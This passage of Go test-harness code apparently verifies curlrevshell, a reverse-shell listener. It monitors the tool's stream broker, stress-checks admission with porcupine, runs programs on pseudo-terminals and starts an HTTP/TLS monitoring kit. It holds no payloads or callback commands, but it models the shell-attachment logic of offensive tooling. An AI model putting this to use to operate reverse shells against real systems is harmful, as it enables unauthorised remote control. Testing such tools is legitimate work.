	time.Sleep(time.Millisecond)
}

// CheckDoAlive: while a stream is attached the broker must not finish.
func (x *Exec) CheckDoAlive() {
	if len(x.live()) == 0 || x.M.Down == 2 {
		return
	}
	select {
	case <-x.W.DoDone:
		x.Viol("do-returned-with-stream-attached", fmt.Sprintf("Do returned while %v is still attached", x.live()))
		x.M.Down = 2
	default:
	}
}

// Probe pushes one tagged line and offers one tagged chunk on every reader,
// and checks that I/O flows exactly to the live streams.
func (x *Exec) Probe() {
	if x.Stalled {
		return
	}
	x.probeN++
	n := x.probeN
	from := x.W.Log.Len()
	in, out := x.M.Slot["input"], x.M.Slot["output"]
	if (in != nil && in.State == StLive) || (out != nil && out.State == StLive) {
		x.ProbesLive++
	} else {
		x.ProbesIdle++
	}
	// output side first (positive probe where possible)
	for _, s := range x.Streams {
		if s.Dir != "output" {
			continue
		}
		tok := fmt.Sprintf("%sP%d;", s.token, n)
		if s.State == StReleased || s.State == StEnded {
			continue // its reader may legitimately still be drained by the dying proxy; nothing may be shown (checked in Finish)
		}
		s.A.Rd.PushData(tok)
		s.Offered = append(s.Offered, tok)
		if s == out && s.State == StLive {
			if _, ok := x.W.Log.Wait(from, Bound, func(e Event) bool { return e.Kind == "op" && e.Plain && strings.Contains(e.S, tok) }); !ok {
				x.Viol("live-output-not-shown", fmt.Sprintf("probe chunk of the attached output %s was not shown to the operator", s))
				x.Stalled = true
				return
			}
		}
	}
	line := fmt.Sprintf("PROBE-LINE-%d", n)
	if x.M.Down == 2 && in == nil {
		return
	}
	select {
	case x.W.Ich <- line:
	default:
		return // channel full or closed; skip the input probe
	}
	if in != nil && in.State == StLive {
		if _, ok := x.W.Log.Wait(from, Bound, func(e Event) bool {
			return (e.Kind == "w" || e.Kind == "werr") && e.Att == in.A.ID && strings.Contains(e.S, line)
		}); !ok {
			x.Viol("live-input-not-fed", fmt.Sprintf("probe line did not reach the attached input %s", in))
			x.Stalled = true
		}
		return
	}
	// nobody may take it: settle, then take it back
	for i := 0; i < 20; i++ {
		runtime.Gosched()
	}
	select {
	case l := <-x.W.Ich:
		if l != line {
			x.tr("probe: took back %q instead of %q", l, line)
		}
	default:
		// somebody consumed it although no input is live: find out who
		ev, ok := x.W.Log.Wait(from, time.Second, func(e Event) bool { return (e.Kind == "w" || e.Kind == "werr") && strings.Contains(e.S, line) })
		who := "nobody's writer (line vanished)"
		if ok {
			who = fmt.Sprintf("attempt %d", ev.Att)
		}
		x.Viol("input-consumed-without-live-input", fmt.Sprintf("probe line was taken from the operator although no input stream is live; it went to %s", who))
	}
}

// Finish closes the world and runs the whole-log C01-style checks that are
// common to all broker properties: refused streams get no I/O, nothing of a
// non-live stream is ever displayed, every Connect returns.
func (x *Exec) Finish() {
	if !x.Stalled {
		x.CheckDoAlive()
	}
	stuck := x.W.Close()
	if x.W.DoStuck {
		x.Viol("shutdown-does-not-finish", "at shutdown every Connect call had returned and every transport was closed, yet Do did not finish")
	}
	for _, a := range stuck {
		x.Viol("connect-does-not-return", fmt.Sprintf("Connect of attempt %d (%s) did not return after its context was cancelled and its transport closed", a.ID, a.Kind))
	}
	evs := x.W.Log.Snapshot()
	for _, s := range x.Streams {
		if s.State != StRefused && s.State != StSilent {
			continue
		}
		if s.Dir == "input" {
			// for an io attempt whose other half was admitted the writer is shared; only judge fully refused attempts
			all := true
			for _, t := range x.StreamsOf(s.A) {
				if t.Dir == "input" && t.State != StRefused && t.State != StSilent {
					all = false
				}
			}
			if all && len(s.A.Wr.Bytes()) > 0 {
				x.Viol("refused-input-got-bytes", fmt.Sprintf("%s was refused (%s) but its writer received %q", s, s.Reason, s.A.Wr.Bytes()))
			}
		}
		if s.Dir == "output" {
			for _, e := range evs {
				if e.Kind == "op" && e.Plain && strings.Contains(e.S, s.token) {
					x.Viol("refused-output-displayed", fmt.Sprintf("%s was refused (%s) but its output %q was displayed", s, s.Reason, e.S))
					break
				}
			}
		}
	}
}


package bk

import (
	"fmt"
	"math/rand/v2"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/anishathalye/porcupine"
)

// StressOp is the input of one operation of the boundary history.
type StressOp struct {
	Kind string // attempt | release
	Dir  string // input | output
	Key  string // callback ID, or "io#<attempt>" for halves of a bidirectional request
	IO   bool
	Att  int
}

// stressState is the sequential specification's state.
type stressState struct {
	In, Out     string // key of the occupant, "" if free
	InIO, OutIO bool
	InAtt       int
	OutAtt      int
	Tearing     bool
}

func (s stressState) mustRefuse(o StressOp) bool {
	if o.Key == "" {
		return true
	}
	if s.Tearing {
		return true
	}
	var own, oth string
	var othIO bool
	if o.Dir == "input" {
		own, oth, othIO = s.In, s.Out, s.OutIO
	} else {
		own, oth, othIO = s.Out, s.In, s.InIO
	}
	if own != "" {
		return true
	}
	if oth != "" && (oth != o.Key || othIO != o.IO) {
		return true
	}
	return false
}

// StressModel is the one-sided sequential specification used with
// porcupine: an admitted attempt must have been admissible when it took
// effect; refusals are always allowed (C01 does not say what must be
// accepted); a release frees its slot and opens the tear-down window while
// the other side is still attached.
var StressModel = porcupine.Model{
	Init: func() any { return stressState{InAtt: -1, OutAtt: -1} },
	Step: func(state, input, output any) (bool, any) {
		s := state.(stressState)
		o := input.(StressOp)
		switch o.Kind {
		case "attempt":
			admitted := output.(bool)
			if !admitted {
				return true, s
			}
			if s.mustRefuse(o) {
				return false, s
			}
			if o.Dir == "input" {
				s.In, s.InIO, s.InAtt = o.Key, o.IO, o.Att
			} else {
				s.Out, s.OutIO, s.OutAtt = o.Key, o.IO, o.Att
			}
			return true, s
		case "release":
			if o.Dir == "input" {
				if s.InAtt != o.Att || s.In == "" {
					return false, s
				}
				s.In, s.InIO, s.InAtt = "", false, -1
			} else {
				if s.OutAtt != o.Att || s.Out == "" {
					return false, s
				}
				s.Out, s.OutIO, s.OutAtt = "", false, -1
			}
			s.Tearing = s.In != "" || s.Out != ""
			return true, s
		}
		return false, s
	},
	DescribeOperation: func(input, output any) string {
		o := input.(StressOp)
		if o.Kind == "attempt" {
			return fmt.Sprintf("attempt(a%d %s key=%q) -> admitted=%v", o.Att, o.Dir, shortKey(o.Key), output)
		}
		return fmt.Sprintf("release(a%d %s)", o.Att, o.Dir)
	},
}

// StressPlan describes one free-running history.
type StressPlan struct {
	Workers  int
	Attempts int      // attempts per worker
	Keys     []string // callback IDs for unidirectional attempts
	IOShare  int      // out of 10 attempts, how many are bidirectional
}

// StressResult is the recorded boundary history and its verdict.
type StressResult struct {
	Ops      []porcupine.Operation
	Verdict  porcupine.CheckResult
	Describe []string
	OrderSig string // order in which decisions were taken (interleaving signature)
	Stuck    int
}

// RunStress fires attempts and endings from several goroutines with random
// yields at the hook points and checks the boundary history with porcupine.
func RunStress(rng *rand.Rand, plan StressPlan, timeout time.Duration) (*World, StressResult) {
	w, err := NewWorld(1024, 64)
	if err != nil {
		return nil, StressResult{Verdict: porcupine.Unknown}
	}
	w.SetStress(rand.New(rand.NewPCG(rng.Uint64(), rng.Uint64())))
	type job struct {
		kind, key string
		pause     time.Duration
		how       string
	}
	jobs := make([][]job, plan.Workers)
	for i := range jobs {
		for k := 0; k < plan.Attempts; k++ {
			j := job{pause: time.Duration(rng.IntN(300)) * time.Microsecond, how: []string{"cancel", "eof"}[rng.IntN(2)]}
			if rng.IntN(10) < plan.IOShare {
				j.kind = "io"
			} else {
				j.kind = []string{"in", "out"}[rng.IntN(2)]
				j.key = plan.Keys[rng.IntN(len(plan.Keys))]
			}
			jobs[i] = append(jobs[i], j)
		}
	}
	var wg sync.WaitGroup
	for i := range jobs {
		wg.Add(1)
		go func(js []job) {
			defer wg.Done()
			for _, j := range js {
				a := w.NewAttempt(j.kind, j.key, WFlusher)
				a.Start()
				// let it live a little if admitted, then end it one way or another
				timer := time.NewTimer(j.pause)
				select {
				case <-a.Ret:
				case <-timer.C:
				}
				timer.Stop()
				if j.how == "eof" && a.Kind != "in" {
					a.Rd.Push(ReadItem{Err: errEOFStress})
				} else {
					a.Cancel()
				}
				// the request context dies soon after in any case (a half of a bidirectional
				// request that attached after its sibling had already ended would otherwise linger)
				select {
				case <-a.Ret:
				case <-time.After(2 * time.Millisecond):
					a.Cancel()
					select {
					case <-a.Ret:
					case <-time.After(Bound):
					}
				}
				a.CloseTransport()
			}
		}(jobs[i])
	}
	wg.Wait()
	res := StressResult{}
	res.Stuck = len(w.Close())
	// build the boundary history from the log
	evs := w.Log.Snapshot()
	type st struct {
		call, dec, done, rel int
		admitted        bool
		decided         bool
	}
	m := map[string]*st{}
	atts := map[int]*Attempt{}
	for _, a := range w.Attempts {
		atts[a.ID] = a
	}
	var order []string
	for _, e := range evs {
		switch e.Kind {
		case "hook":
			k := fmt.Sprintf("%d/%s", e.Att, e.Dir)
			if e.S == "admit" {
				m[k] = &st{call: e.Seq, dec: -1, done: -1, rel: -1}
			} else if e.S == "release" && m[k] != nil {
				m[k].rel = e.Seq
			} else if e.S == "done" && m[k] != nil {
				m[k].done = e.Seq
				if !m[k].decided { // silent or refused without a record seen yet
					m[k].dec = e.Seq
					m[k].decided = true
				}
			}
		case "slog":
			a := atts[e.Att]
			dir := e.Dir
			if dir == "" && a != nil && a.Kind != "io" {
				dir = a.Dirs()[0]
			}
			k := fmt.Sprintf("%d/%s", e.Att, dir)
			s := m[k]
			if s == nil || s.decided {
				continue
			}
			switch e.S {
			case MsgNew:
				s.admitted, s.decided, s.dec = true, true, e.Seq
				order = append(order, k+"+")
			case MsgKeyMissing, MsgDisconnecting, MsgAlready, MsgIncorrectKey:
				s.decided, s.dec = true, e.Seq
				order = append(order, k+"-")
			}
		}
	}
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		s := m[k]
		var att int
		var dir string
		fmt.Sscanf(strings.Replace(k, "/", " ", 1), "%d %s", &att, &dir)
		a := atts[att]
		if a == nil || s.dec < 0 || s.done < 0 {
			continue
		}
		key := a.Key
		if a.Kind == "io" {
			key = fmt.Sprintf("io#%d", att)
		}
		in := StressOp{Kind: "attempt", Dir: dir, Key: key, IO: a.Kind == "io", Att: att}
		res.Ops = append(res.Ops, porcupine.Operation{ClientId: att % 8, Input: in, Call: int64(s.call), Output: s.admitted, Return: int64(s.dec)})
		if s.admitted {
			// the release section runs between the "release" hook point (reached after the
			// proxy returned) and the "done" point
			rel := StressOp{Kind: "release", Dir: dir, Att: att}
			call := s.rel
			if call < 0 {
				call = s.dec
			}
			res.Ops = append(res.Ops, porcupine.Operation{ClientId: att % 8, Input: rel, Call: int64(call), Output: true, Return: int64(s.done)})
		}
	}
	res.OrderSig = strings.Join(order, " ")
	v, info := porcupine.CheckOperationsVerbose(StressModel, res.Ops, timeout)
	res.Verdict = v
	if v == porcupine.Illegal {
		for _, o := range res.Ops {
			res.Describe = append(res.Describe, fmt.Sprintf("[%d,%d] %s", o.Call, o.Return, StressModel.DescribeOperation(o.Input, o.Output)))
		}
		_ = info
	}
	return w, res
}

var errEOFStress = fmt.Errorf("EOF")

// Package bk is the broker monitoring kit: an event log with one total
// order of observations, harness-owned writers/readers/slog handler/operator
// consumer for iobroker.Broker, and the gate scheduler driven by the
// build-tag-guarded verifPoint hook.
package bk

import (
	"fmt"
	"sync"
	"time"
)

// Event is one observation at the broker's boundary.
type Event struct {
	Seq   int       `json:"seq"`
	T     time.Time `json:"-"`
	Kind  string    `json:"kind"`            // call ret hook slog op ev w f r do-ret note
	Att   int       `json:"att"`             // attempt number, -1 if none
	Dir   string    `json:"dir,omitempty"`   // input/output for per-direction events
	S     string    `json:"s,omitempty"`     // message / line / bytes / point
	S2    string    `json:"s2,omitempty"`    // secondary text (error, level)
	N     int       `json:"n,omitempty"`     // count
	Plain bool      `json:"plain,omitempty"` // operator line: Plain
	Color int       `json:"color,omitempty"` // operator line: colour
	Attrs map[string]string `json:"attrs,omitempty"`
}

func (e Event) String() string {
	s := e.S
	if len(s) > 80 {
		s = s[:80] + "…"
	}
	return fmt.Sprintf("#%d %s att=%d dir=%s %q %q n=%d", e.Seq, e.Kind, e.Att, e.Dir, s, e.S2, e.N)
}

// Log is an append-only, thread-safe event log with waiting.
type Log struct {
	mu   sync.Mutex
	cond *sync.Cond
	evs  []Event
}

func NewLog() *Log {
	l := &Log{}
	l.cond = sync.NewCond(&l.mu)
	return l
}

// Add appends an event and returns its sequence number.
func (l *Log) Add(e Event) int {
	l.mu.Lock()
	e.Seq = len(l.evs)
	e.T = time.Now()
	l.evs = append(l.evs, e)
	l.mu.Unlock()
	l.cond.Broadcast()
	return e.Seq
}

// Len returns the number of events so far.
func (l *Log) Len() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.evs)
}

// Snapshot copies the log.
func (l *Log) Snapshot() []Event {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]Event(nil), l.evs...)
}

// Wait returns the first event with Seq >= from satisfying pred, waiting up to
// d for it to appear.
func (l *Log) Wait(from int, d time.Duration, pred func(Event) bool) (Event, bool) {
	deadline := time.Now().Add(d)
	timer := time.AfterFunc(d, func() { l.cond.Broadcast() })
	defer timer.Stop()
	l.mu.Lock()
	defer l.mu.Unlock()
	i := from
	for {
		for ; i < len(l.evs); i++ {
			if pred(l.evs[i]) {
				return l.evs[i], true
			}
		}
		if !time.Now().Before(deadline) {
			return Event{}, false
		}
		l.cond.Wait()
	}
}

// Find returns the first event with Seq >= from satisfying pred, without waiting.
func (l *Log) Find(from int, pred func(Event) bool) (Event, bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for i := from; i < len(l.evs); i++ {
		if pred(l.evs[i]) {
			return l.evs[i], true
		}
	}
	return Event{}, false
}

// Tail returns the last n events rendered as strings (for witnesses).
func (l *Log) Tail(n int) []string {
	evs := l.Snapshot()
	if len(evs) > n {
		evs = evs[len(evs)-n:]
	}
	out := make([]string, len(evs))
	for i, e := range evs {
		out[i] = e.String()
	}
	return out
}

package bk

// RefusalTour drives one broker through every refusal branch the broker has,
// with caller-chosen callback IDs, in gate mode: duplicate direction, wrong
// ID, missing ID, attempts (unidirectional and bidirectional) inside the
// tear-down window, a unidirectional attempt onto a bidirectional shell and
// the reverse, and a second bidirectional request.  It returns the executor
// (its Streams carry every decision) after closing the world.
func RefusalTour(w *World, ids [4]string, viol func(key, what string)) *Exec {
	x := NewExec(w, viol)
	x.NoAdmissionVerdicts = true
	a, b, c, d := ids[0], ids[1], ids[2], ids[3]
	wk := WBoth
	// half-attached input: duplicate, wrong ID the other way, missing ID
	x.Connect("in", a, wk, false)
	x.Connect("in", b, wk, false)
	x.Connect("in", a, wk, false)
	x.Connect("out", b, wk, false)
	x.Connect("out", "", wk, false)
	x.Connect("io", "", wk, false) // bidirectional onto unidirectional
	x.Connect("out", a, wk, false) // completes the shell
	x.Connect("out", c, wk, false)
	x.Probe()
	// tear-down window: the output side is held while the input side has gone
	in, out := x.M.Slot["input"], x.M.Slot["output"]
	if in != nil && out != nil && !x.Stalled {
		x.Hold(out)
		x.End(in, "cancel", "", false)
		x.Connect("in", d, wk, false)
		x.Connect("out", d, wk, false)
		x.Connect("in", a, wk, false)
		x.Connect("io", "", wk, true)
		x.Unhold(out)
	}
	// bidirectional shell: second request, unidirectional attempts onto it
	x.Connect("io", "", wk, false)
	x.Connect("io", "", wk, true)
	x.Connect("in", c, wk, false)
	x.Connect("out", d, wk, false)
	x.Probe()
	// its tear-down window
	in, out = x.M.Slot["input"], x.M.Slot["output"]
	if in != nil && out != nil && !x.Stalled {
		x.Hold(in)
		x.End(out, "eof", "", false)
		x.Connect("out", b, wk, false)
		x.Connect("io", "", wk, false)
		x.Unhold(in)
	}
	x.Connect("out", d, wk, false) // half-attached output: duplicate and wrong ID
	x.Connect("out", d, wk, false)
	x.Connect("in", c, wk, false)
	x.Probe()
	x.Finish()
	return x
}

// Package ptyx runs a program as a session leader on a fresh pseudo-terminal
// and records, with timestamps, everything it writes to the terminal.
package ptyx

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"regexp"
	"sync"
	"syscall"
	"time"
	"unsafe"
)

type winsize struct{ Row, Col, X, Y uint16 }

func ioctl(fd uintptr, req uintptr, arg unsafe.Pointer) error {
	_, _, e := syscall.Syscall(syscall.SYS_IOCTL, fd, req, uintptr(arg))
	if e != 0 {
		return e
	}
	return nil
}

// OpenPty returns the master and slave of a new pty with the given size.
func OpenPty(rows, cols uint16) (master, slave *os.File, err error) {
	master, err = os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return nil, nil, err
	}
	var unlock int32
	if err = ioctl(master.Fd(), syscall.TIOCSPTLCK, unsafe.Pointer(&unlock)); err != nil {
		master.Close()
		return nil, nil, fmt.Errorf("TIOCSPTLCK: %w", err)
	}
	var n uint32
	if err = ioctl(master.Fd(), syscall.TIOCGPTN, unsafe.Pointer(&n)); err != nil {
		master.Close()
		return nil, nil, fmt.Errorf("TIOCGPTN: %w", err)
	}
	ws := winsize{Row: rows, Col: cols}
	if err = ioctl(master.Fd(), syscall.TIOCSWINSZ, unsafe.Pointer(&ws)); err != nil {
		master.Close()
		return nil, nil, fmt.Errorf("TIOCSWINSZ: %w", err)
	}
	slave, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		master.Close()
		return nil, nil, err
	}
	return master, slave, nil
}

// Termios reads the terminal attributes of f.
func Termios(f *os.File) (syscall.Termios, error) {
	var t syscall.Termios
	err := ioctl(f.Fd(), syscall.TCGETS, unsafe.Pointer(&t))
	return t, err
}

// Opts describes the child.
type Opts struct {
	Path string
	Args []string
	Env  []string
	Dir  string
	Rows uint16
	Cols uint16
	// NoTTY: the child becomes a session leader WITHOUT a controlling
	// terminal and with stdio on pipes.
	NoTTY bool
	Uid   int
	// Stdin, Stdout, Stderr (with a TTY only): a descriptor that is not nil is
	// what the child gets instead of the terminal (`prog </dev/null`, `prog |
	// ...` typed at an interactive terminal).  The pty remains the child's
	// CONTROLLING terminal: the child is a session leader and TIOCSCTTY is done
	// on whichever of its descriptors 0-2 still is the pty - or, when all
	// three are redirected, on an additional descriptor 3 that is the pty (the
	// caller may have a shell wrapper close it: `exec "$0" "$@" 3>&-`).  The
	// files stay the caller's: it closes its copies once Start has returned.
	Stdin, Stdout, Stderr *os.File
}

type chunk struct {
	t        time.Time
	rawOff   int
	cleanOff int
}

// Proc is a running (or finished) child.
type Proc struct {
	cmd    *exec.Cmd
	master *os.File
	slave  *os.File // kept open by the harness for tcgetattr
	Before syscall.Termios

	mu     sync.Mutex
	cond   *sync.Cond
	paused bool
	raw    []byte
	clean  []byte
	chunks []chunk
	esc    escState
	eof    bool

	stderr bytes.Buffer // NoTTY only
	stdout bytes.Buffer

	waitOnce sync.Once
	exited   chan struct{}
	status   int
	signal   string
	Started  time.Time
}

// Start launches the child.
func Start(o Opts) (*Proc, error) {
	if o.Rows == 0 {
		o.Rows = 50
	}
	if o.Cols == 0 {
		o.Cols = 250
	}
	p := &Proc{exited: make(chan struct{})}
	p.cond = sync.NewCond(&p.mu)
	cmd := exec.Command(o.Path, o.Args...)
	cmd.Env = o.Env
	cmd.Dir = o.Dir
	p.cmd = cmd
	if o.NoTTY {
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		cmd.Stdin = nil
		cmd.Stdout = &lockedWriter{p: p, b: &p.stdout}
		cmd.Stderr = &lockedWriter{p: p, b: &p.stderr}
	} else {
		m, s, err := OpenPty(o.Rows, o.Cols)
		if err != nil {
			return nil, err
		}
		p.master, p.slave = m, s
		p.Before, _ = Termios(s)
		cmd.Stdin, cmd.Stdout, cmd.Stderr = s, s, s
		ctty := -1
		for fd, f := range []*os.File{o.Stdin, o.Stdout, o.Stderr} {
			switch {
			case f == nil:
				if ctty < 0 {
					ctty = fd
				}
			case fd == 0:
				cmd.Stdin = f
			case fd == 1:
				cmd.Stdout = f
			case fd == 2:
				cmd.Stderr = f
			}
		}
		if ctty < 0 {
			cmd.ExtraFiles = []*os.File{s}
			ctty = 3
		}
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: ctty}
	}
	if o.Uid != 0 {
		cmd.SysProcAttr.Credential = &syscall.Credential{Uid: uint32(o.Uid), Gid: uint32(o.Uid)}
	}
	p.Started = time.Now()
	if err := cmd.Start(); err != nil {
		if p.master != nil {
			p.master.Close()
			p.slave.Close()
		}
		return nil, err
	}
	if p.master != nil {
		go p.readLoop()
	}
	go func() {
		err := cmd.Wait()
		_ = err
		if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); ok {
			if ws.Signaled() {
				p.status = -1
				p.signal = ws.Signal().String()
			} else {
				p.status = ws.ExitStatus()
			}
		}
		close(p.exited)
		p.cond.Broadcast()
	}()
	return p, nil
}

type lockedWriter struct {
	p *Proc
	b *bytes.Buffer
}

func (w *lockedWriter) Write(b []byte) (int, error) {
	w.p.mu.Lock()
	defer w.p.mu.Unlock()
	return w.b.Write(b)
}

// PauseReading makes the harness stop draining the pty (a terminal that is
// not keeping up: scroll lock, a stalled SSH link, tmux copy mode).  The
// program's writes to its terminal block once the kernel's buffer is full.
// A read already under way still delivers its chunk.
func (p *Proc) PauseReading() { p.mu.Lock(); p.paused = true; p.mu.Unlock() }

// ResumeReading undoes PauseReading.
func (p *Proc) ResumeReading() { p.mu.Lock(); p.paused = false; p.mu.Unlock(); p.cond.Broadcast() }

func (p *Proc) readLoop() {
	buf := make([]byte, 32768)
	for {
		p.mu.Lock()
		for p.paused {
			p.cond.Wait()
		}
		p.mu.Unlock()
		n, err := p.master.Read(buf)
		if n > 0 {
			now := time.Now()
			p.mu.Lock()
			p.chunks = append(p.chunks, chunk{t: now, rawOff: len(p.raw), cleanOff: len(p.clean)})
			p.raw = append(p.raw, buf[:n]...)
			p.clean = p.esc.feed(p.clean, buf[:n])
			p.mu.Unlock()
			p.cond.Broadcast()
		}
		if err != nil {
			p.mu.Lock()
			p.eof = true
			p.mu.Unlock()
			p.cond.Broadcast()
			return
		}
	}
}

// escState interprets the few terminal controls the line editor uses, across
// chunk boundaries: escape sequences are removed, and "cursor left n" +
// "erase to end of line" (how the prompt is taken away before output is
// written) really delete text, so that a prompt redrawn in the middle of shell
// output leaves no trace in the clean text.
type escState struct {
	st    int // 0 text, 1 after ESC, 2 in CSI, 3 in OSC, 4 OSC after ESC
	param []byte
	back  int // how far the cursor is to the left of the end of the text
}

func (e *escState) feed(dst, b []byte) []byte {
	for _, c := range b {
		switch e.st {
		case 0:
			if c == 0x1b {
				e.st = 1
				continue
			}
			if e.back > 0 && c != '\n' && c != '\r' {
				dst[len(dst)-e.back] = c // overwrite in place
				e.back--
				continue
			}
			if c == '\n' {
				e.back = 0
			}
			dst = append(dst, c)
		case 1:
			switch c {
			case '[':
				e.st = 2
				e.param = e.param[:0]
			case ']':
				e.st = 3
			default:
				e.st = 0
			}
		case 2:
			if c >= 0x40 && c <= 0x7e {
				e.st = 0
				n := 0
				for _, d := range e.param {
					if d >= '0' && d <= '9' {
						n = n*10 + int(d-'0')
					}
				}
				switch c {
				case 'D': // cursor left, not beyond the start of the line
					if n == 0 {
						n = 1
					}
					e.back += n
					lineLen := len(dst)
					if k := lastNL(dst); k >= 0 {
						lineLen = len(dst) - k - 1
					}
					if e.back > lineLen {
						e.back = lineLen
					}
				case 'C': // cursor right
					if n == 0 {
						n = 1
					}
					e.back -= n
					if e.back < 0 {
						e.back = 0
					}
				case 'K': // erase to end of line
					if n == 0 && e.back > 0 {
						dst = dst[:len(dst)-e.back]
						e.back = 0
					}
				}
			} else {
				e.param = append(e.param, c)
			}
		case 3:
			if c == 0x07 {
				e.st = 0
			} else if c == 0x1b {
				e.st = 4
			}
		case 4:
			e.st = 0
		}
	}
	return dst
}

func lastNL(b []byte) int {
	for i := len(b) - 1; i >= 0; i-- {
		if b[i] == '\n' {
			return i
		}
	}
	return -1
}

// Strip interprets b the way Clean does for the terminal's output (escape
// sequences removed, cursor-left + erase applied): for terminal-style output
// that was redirected to a pipe or a file.
func Strip(b []byte) string {
	var e escState
	return string(e.feed(nil, b))
}

// Raw returns everything read from the terminal so far.
func (p *Proc) Raw() []byte {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]byte(nil), p.raw...)
}

// Clean returns the terminal output with escape sequences removed.
func (p *Proc) Clean() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return string(p.clean)
}

// Stdout / Stderr of a NoTTY child.
func (p *Proc) Stdout() string { p.mu.Lock(); defer p.mu.Unlock(); return p.stdout.String() }
func (p *Proc) Stderr() string { p.mu.Lock(); defer p.mu.Unlock(); return p.stderr.String() }

// TimeOfClean returns when the chunk containing clean offset off was read.
func (p *Proc) TimeOfClean(off int) time.Time {
	p.mu.Lock()
	defer p.mu.Unlock()
	var t time.Time
	for _, c := range p.chunks {
		if c.cleanOff > off {
			break
		}
		t = c.t
	}
	return t
}

// WaitFor waits until re matches the clean text at or after offset from; it
// returns the match location (absolute offsets into Clean()).
func (p *Proc) WaitFor(re *regexp.Regexp, from int, d time.Duration) ([]int, bool) {
	deadline := time.Now().Add(d)
	timer := time.AfterFunc(d, func() { p.cond.Broadcast() })
	defer timer.Stop()
	p.mu.Lock()
	defer p.mu.Unlock()
	for {
		if from <= len(p.clean) {
			if loc := re.FindSubmatchIndex(p.clean[from:]); loc != nil {
				for i := range loc {
					if loc[i] >= 0 {
						loc[i] += from
					}
				}
				return loc, true
			}
		}
		if p.eof || !time.Now().Before(deadline) {
			return nil, false
		}
		select {
		case <-p.exited:
			if p.eof {
				return nil, false
			}
		default:
		}
		p.cond.Wait()
	}
}

// CleanLen is the current length of the clean text.
func (p *Proc) CleanLen() int { p.mu.Lock(); defer p.mu.Unlock(); return len(p.clean) }

// Write types bytes on the terminal.
func (p *Proc) Write(b []byte) error {
	if p.master == nil {
		return fmt.Errorf("no terminal")
	}
	_, err := p.master.Write(b)
	return err
}

// WaitExit waits for the child to exit.
func (p *Proc) WaitExit(d time.Duration) (status int, signal string, ok bool) {
	select {
	case <-p.exited:
		return p.status, p.signal, true
	case <-time.After(d):
		return 0, "", false
	}
}

// Exited reports whether the child has exited.
func (p *Proc) Exited() bool {
	select {
	case <-p.exited:
		return true
	default:
		return false
	}
}

// Pid of the child.
func (p *Proc) Pid() int { return p.cmd.Process.Pid }

// Signal sends a signal to the child.
func (p *Proc) Signal(s syscall.Signal) { p.cmd.Process.Signal(s) }

// After returns the slave's terminal attributes now (after exit: the mode
// the program left the terminal in).
func (p *Proc) After() (syscall.Termios, error) {
	if p.slave == nil {
		return syscall.Termios{}, fmt.Errorf("no terminal")
	}
	return Termios(p.slave)
}

// SetNonblock sets or clears O_NONBLOCK on the open file description of the
// terminal.  The child's stdin, stdout and stderr are duplicates of the
// harness's slave descriptor, so they share that one description: this is what
// a sibling process sharing the terminal (ssh, a multiplexer, a wrapper) does
// to a program behind its back.  A program that was started on a blocking
// terminal then sees EAGAIN and partial writes when the terminal is busy.
func (p *Proc) SetNonblock(on bool) error {
	if p.slave == nil {
		return fmt.Errorf("no terminal")
	}
	return syscall.SetNonblock(int(p.slave.Fd()), on)
}

// Kill kills the child's session and releases the pty.
func (p *Proc) Kill() {
	if p.cmd.Process != nil {
		syscall.Kill(-p.cmd.Process.Pid, syscall.SIGKILL)
		p.cmd.Process.Kill()
	}
}

// Close releases the pty (after Kill or exit).
func (p *Proc) Close() {
	p.ResumeReading()
	if !p.Exited() {
		p.Kill()
		select {
		case <-p.exited:
		case <-time.After(5 * time.Second):
		}
	}
	if p.slave != nil {
		p.slave.Close()
	}
	if p.master != nil {
		p.master.Close()
	}
}

// SameMode compares the fields of two termios that describe the terminal mode.
func SameMode(a, b syscall.Termios) bool {
	return a.Iflag == b.Iflag && a.Oflag == b.Oflag && a.Cflag == b.Cflag && a.Lflag == b.Lflag && a.Cc == b.Cc
}

// ModeString renders a termios for witnesses.
func ModeString(t syscall.Termios) string {
	return fmt.Sprintf("iflag=%#o oflag=%#o cflag=%#o lflag=%#o cc=%x", t.Iflag, t.Oflag, t.Cflag, t.Lflag, t.Cc[:20])
}

// Package hk is the HTTP monitoring kit: hsrv.Server in-process on a real
// TLS listener, with the operator channel and the slog output captured in one
// ordered event log, plus raw TLS clients that write hand-made request bytes.
package hk

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"regexp"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// Bound is the bounded-progress limit for one HTTP-level step.
const Bound = 20 * time.Second

// Config selects how the server is created.
type Config struct {
	Addr      string // default 127.0.0.1:0
	FDir      string
	TmplF     string
	CertFile  string
	CBAddrs   []string
	PrintIPv6 bool
	OneShell  bool
	OchCap    int // default 1024
}

// Server is a running hsrv.Server with its broker.
type Server struct {
	S    *hsrv.Server
	B    *iobroker.Broker
	Ich  chan string
	Och  chan opshell.CLine
	Log  *bk.Log
	Addr string // host:port actually bound, from the "Listening on" line

	cancel context.CancelFunc
	done   chan error
	quit   chan struct{}
	cdone  chan struct{}
	jmu    sync.Mutex

	stallMu sync.Mutex
	stall   *opStall
	kick    chan struct{}
}

// opStall is one stall of the operator consumer.
type opStall struct {
	entered chan struct{} // closed by the consumer once it has stopped taking lines
	resume  chan struct{} // closed by the resume function
}

// jsonSink receives the JSON handler's output; each Write is one record.
type jsonSink struct{ s *Server }

func (j jsonSink) Write(p []byte) (int, error) {
